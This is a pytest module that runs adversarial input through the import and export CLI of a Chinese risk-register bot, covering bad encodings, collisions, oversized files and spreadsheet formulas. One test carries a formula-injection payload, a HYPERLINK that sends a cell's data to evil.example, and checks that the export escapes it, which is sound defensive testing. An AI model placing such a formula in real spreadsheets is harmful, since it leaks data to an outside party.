"""Every import fed bad encodings, collisions, formulas and oversized files through the CLI
(`python -m bot import …`, in process): a clear answer, never a traceback, and the database
unchanged (every table hashed before and after) unless the file was good.

The run's counts are printed at the end of the module (inputs tried, refused correctly,
tracebacks, unintended writes); only the first two may be non-zero."""

from __future__ import annotations

import hashlib
import sqlite3
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from bot.app import cli
from bot.services.register_files import REGISTER_HEADER_ZH
from bot.services.tabular import write_table
from bot.settings import get_settings
from tests.adversarial.kit import Tally

UNITS = "单位,类型,岗位,领导岗位\n长安区/卫生局/医政科,科室,医政审批岗,否\n"
FACTORS = ("权力重要程度", "自由裁量权", "社会关注度", "发生概率", "危害程度")
COUNTS: Counter[str] = Counter()


def risk_row(description: str, **cells: str) -> list[str]:
    row = dict.fromkeys(REGISTER_HEADER_ZH, "") | dict.fromkeys(FACTORS, "3") | {
        "单位": "长安区/卫生局/医政科", "岗位": "医政审批岗", "风险点描述": description,
        "风险类型": "岗位职责", "防控措施": "双人复核", "完成时限": "2026-12-31",
        "状态": "已提交",
    } | cells  # fmt: skip
    return list(row.values())


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """One SQLite database for the module, with a unit and a post to import risks into."""
    folder = tmp_path_factory.mktemp("adversarial_imports")
    path = folder / "db.sqlite3"
    units = folder / "units.csv"
    units.write_text(UNITS, "utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{path}")
        patch.setenv("DEFAULT_LOCALE", "zh")
        get_settings.cache_clear()
        assert cli.main(["import", "units", str(units)]) == 0
        yield path
    get_settings.cache_clear()
    # Into the run's counts line (`kit.summarise`), with every other adversarial test's.
    tally = Tally(COUNTS["tried"], COUNTS["refused"], COUNTS["tracebacks"], COUNTS["writes"])
    tally.save(__name__)
    print(f"\nadversarial imports: {tally}")


@pytest.fixture
def run(
    database: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., tuple[int, list[str]]]:
    """`python -m bot ARGS` against the module's database: (exit status, output lines)."""
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{database}")
    monkeypatch.setenv("DEFAULT_LOCALE", "zh")

    def call(*args: str) -> tuple[int, list[str]]:
        get_settings.cache_clear()
        capsys.readouterr()
        try:
            status = cli.main(list(args))
        except BaseException:
            COUNTS["tracebacks"] += 1
            raise
        finally:
            get_settings.cache_clear()
        out = capsys.readouterr()
        text = out.out + out.err
        if "Traceback" in text or "Error:" in text:
            COUNTS["tracebacks"] += 1
        return status, [line for line in text.splitlines() if line.strip()]

    return call


def table_hash(database: Path) -> str:
    """Every row of every table (the import's audit rows too)."""
    digest = hashlib.sha256()
    with sqlite3.connect(database) as connection:
        tables = [name for (name,) in connection.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]  # fmt: skip
        for name in tables:
            for row in connection.execute(f'SELECT * FROM "{name}" ORDER BY rowid'):
                digest.update(repr((name, row)).encode())
    return digest.hexdigest()


def refused(run: Callable[..., tuple[int, list[str]]], database: Path, *args: str) -> list[str]:
    """Run an import that must be refused: exit status 1 or 2, no write; its output."""
    before = table_hash(database)
    COUNTS["tried"] += 1
    status, lines = run(*args)
    if table_hash(database) != before:
        COUNTS["writes"] += 1
    assert table_hash(database) == before
    assert status in (1, 2), lines
    assert lines and all("Traceback" not in line for line in lines)
    COUNTS["refused"] += 1
    return lines


def encode(path: Path, text: str, encoding: str) -> Path:
    path.write_bytes(text.encode(encoding))
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
def test_the_encodings_chinese_spreadsheets_save_are_read(
    run: Callable[..., tuple[int, list[str]]], tmp_path: Path, encoding: str
) -> None:
    path = encode(tmp_path / "units.csv", UNITS.replace("医政审批岗", "医政复核岗"), encoding)
    status, lines = run("import", "units", str(path))
    assert status == 0, lines
    assert "岗位：新增 1" in "".join(lines) or "岗位：新增 0" in "".join(lines)


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("junk.csv", b"\x80\x81\xff\xfe\x00garbage\x80", "编码"),
        ("utf16-no-bom.csv", "unit,post\nabc,def\n".encode("utf-16-le"), "编码"),
        ("empty.csv", b"", "文件为空"),
        ("junk.xlsx", b"PK\x03\x04 not really a workbook", "XLSX"),
        ("notes.txt", "单位\n".encode(), ".csv"),
    ],
)
def test_unreadable_files_are_one_clear_line(
    run: Callable[..., tuple[int, list[str]]],
    database: Path,
    tmp_path: Path,
    name: str,
    content: bytes,
    says: str,
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    for kind in ("units", "people", "categories", "powers", "risks"):
        lines = refused(run, database, "import", kind, str(path))
        assert len(lines) == 1 and says in lines[0], lines


def test_a_missing_file_is_one_clear_line(
    run: Callable[..., tuple[int, list[str]]], database: Path, tmp_path: Path
) -> None:
    for kind in ("units", "people", "categories", "powers", "risks"):
        lines = refused(run, database, "import", kind, str(tmp_path / "nowhere.csv"))
        assert lines == [f"找不到文件：{tmp_path / 'nowhere.csv'}"]


def test_collisions_are_refused_with_their_rows(
    run: Callable[..., tuple[int, list[str]]], database: Path, tmp_path: Path
) -> None:
    people = tmp_path / "people.csv"
    people.write_text(
        "姓名,单位,岗位,角色,telegram\n王芳,长安区/卫生局/医政科,医政审批岗,staff,9100001\n",
        "utf-8",
    )
    status, _ = run("import", "people", str(people))
    assert status == 0
    people.write_text(
        "姓名,单位,岗位,角色,telegram\n李四,长安区/卫生局/医政科,,reviewer,9100001\n"
        "张三,长安区/卫生局/医政科,,staff,9100002\n赵六,长安区/卫生局/医政科,,staff,9100002\n",
        "utf-8",
    )
    lines = refused(run, database, "import", "people", str(people))
    assert lines[0].startswith("第 2 行") and "王芳" in lines[0]
    assert lines[1].startswith("第 4 行") and "第 3 行" in lines[1]
    risks = tmp_path / "risks.csv"
    write_table(risks, REGISTER_HEADER_ZH, [risk_row("甲"), risk_row("乙"), risk_row("甲")])
    lines = refused(run, database, "import", "risks", str(risks))
    assert lines[0].startswith("第 4 行") and "第 2 行" in lines[0]


@pytest.mark.parametrize(
    "cells",
    [
        {"风险点描述": "x" * 1001},
        {"防控措施": "y" * 501},
        {"风险点描述": "NUL\x00在名字里"},
        {"风险点描述": "ESC\x1b[31m"},
        {"重点项目": "测试惠民项目"},
        {"风险等级": "一级", "状态": "已审定"},
        {"权力重要程度": "6"},
        {"完成时限": "下个月"},
    ],
)
def test_bad_cells_are_refused_by_row(
    run: Callable[..., tuple[int, list[str]]],
    database: Path,
    tmp_path: Path,
    cells: dict[str, str],
) -> None:
    risks = tmp_path / "risks.csv"
    write_table(risks, REGISTER_HEADER_ZH, [risk_row("正常"), risk_row("坏", **cells)])
    lines = refused(run, database, "import", "risks", str(risks))
    assert lines[0].startswith("第 3 行") and lines[-1] == "文件有误，未导入任何内容。"


def test_too_many_measures_are_refused_as_in_the_bot(
    run: Callable[..., tuple[int, list[str]]], database: Path, tmp_path: Path
) -> None:
    risks = tmp_path / "risks.csv"
    rows = [risk_row("三十条措施", 防控措施=f"措施{n}") for n in range(30)]
    write_table(risks, REGISTER_HEADER_ZH, rows)
    lines = refused(run, database, "import", "risks", str(risks))
    assert lines[0].startswith("第 22 行") and "20" in lines[0]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_oversized_file_stops_at_fifty_errors(
    run: Callable[..., tuple[int, list[str]]], database: Path, tmp_path: Path, suffix: str
) -> None:
    risks = tmp_path / f"huge{suffix}"
    rows = 100_000 if suffix == ".csv" else 5_000
    write_table(
        risks, REGISTER_HEADER_ZH, (risk_row(f"风险{n}", 风险类型="不知道") for n in range(rows))
    )
    lines = refused(run, database, "import", "risks", str(risks))
    assert len(lines) == 52
    assert "检查在第 51 行停止" in lines[-2]


def test_formulas_are_stored_as_text_and_exported_escaped(
    run: Callable[..., tuple[int, list[str]]], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    formulas = ['=HYPERLINK("http://evil.example/?d="&C2,"点击查看详情")', "+1+1", "-2+3",
                "@SUM(A1:A9)"]  # fmt: skip
    risks = tmp_path / "risks.csv"
    write_table(risks, REGISTER_HEADER_ZH, [risk_row(f, 防控措施=f) for f in formulas])
    status, lines = run("import", "risks", str(risks))
    assert status == 0, lines
    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert run("export", "register", str(csv_out))[0] == 0
    assert run("export", "register", str(xlsx_out))[0] == 0
    text = csv_out.read_text("utf-8-sig")
    for formula in formulas:
        assert f"'{formula}"[:12] in text.replace('""', '"')
        assert f",{formula[:5]}" not in text
    sheet = load_workbook(xlsx_out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    found = {cell.value for cell in cells if cell.value in formulas}
    assert found == set(formulas)
    assert all(cell.data_type != "f" for cell in cells)
